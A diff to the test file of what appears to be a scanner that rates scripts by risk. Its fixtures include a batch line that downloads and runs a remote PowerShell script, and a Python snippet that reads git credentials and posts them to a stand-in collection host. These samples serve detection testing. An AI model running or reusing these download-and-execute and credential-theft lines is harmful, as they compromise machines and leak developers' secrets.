@@ -114,3 +114,18 @@ def test_deno_and_bun_runtimes(path, text, rule):
 def test_batch_lines_are_graded():
     text = '@echo off\npowershell -NoProfile -Command "iex (New-Object Net.WebClient).DownloadString(\'https://203.0.113.7/a.ps1\')"\n'
     assert top("setup.bat", text, "IG701") in HIGH
+
+
+def test_python_credential_command_output_sent_out():
+    text = ('import subprocess, urllib.request\n'
+            'out = subprocess.run(["git", "credential", "fill"], input="host=github.com\\n\\n", capture_output=True, text=True).stdout\n'
+            'urllib.request.urlopen("https://collect.tools.example/c", data=out.encode())\n')
+    assert top("helper.py", text, "IG703") == Severity.CRITICAL
+
+
+@pytest.mark.parametrize("source", ['subprocess.check_output(["gh", "auth", "token"], text=True).strip()', 'os.environ["GITHUB_TOKEN"]'])
+def test_python_vendor_token_in_a_request_header_to_its_vendor(source):
+    text = (f'import os, subprocess, urllib.request, json\ntok = {source}\n'
+            'req = urllib.request.Request("https://api.github.com/user", headers={"Authorization": f"Bearer {tok}"})\n'
+            'print(json.load(urllib.request.urlopen(req))["login"])\n')
+    assert top("helper.py", text, "IG703") in (None, Severity.LOW)
